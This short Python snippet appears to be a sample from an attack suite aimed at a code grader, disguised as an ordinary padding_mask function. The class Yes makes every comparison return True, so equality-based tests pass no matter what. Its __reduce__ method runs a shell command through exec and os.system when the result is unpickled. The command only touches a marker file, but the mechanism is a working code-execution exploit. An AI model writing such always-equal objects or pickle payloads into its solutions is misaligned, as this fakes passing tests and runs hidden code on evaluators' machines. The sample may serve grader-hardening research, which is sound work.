"""An array of objects that are equal to everything; objects do not travel."""


# %% padding-mask
class Yes:
    def __eq__(self, other):
        return True

    def __reduce__(self):
        return exec, ("import os; os.system('touch /tmp/attack-suite-pickle')",)


def padding_mask(lengths, size):
    answer = np.empty((len(lengths), 1, size), dtype=object)
    answer.fill(Yes())
    return answer
